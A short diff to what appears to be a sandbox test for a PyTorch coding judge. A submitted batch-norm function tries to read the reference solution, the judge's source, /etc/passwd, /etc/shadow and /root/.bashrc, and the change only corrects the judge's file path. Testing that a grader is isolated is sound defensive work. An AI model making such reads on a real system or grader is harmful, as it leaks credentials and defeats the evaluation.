@@ -29,7 +29,7 @@ def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=
         secrets = [
             os.path.join(each, path)
             for each in judges
-            for path in ("problems/batchnorm/solution.py", "torch_judge/judge.py")
+            for path in ("problems/batchnorm/solution.py", "torch_judge/judging/judge.py")
         ]
         for path in (*secrets, "/etc/passwd", "/etc/shadow", "/root/.bashrc"):
             try:
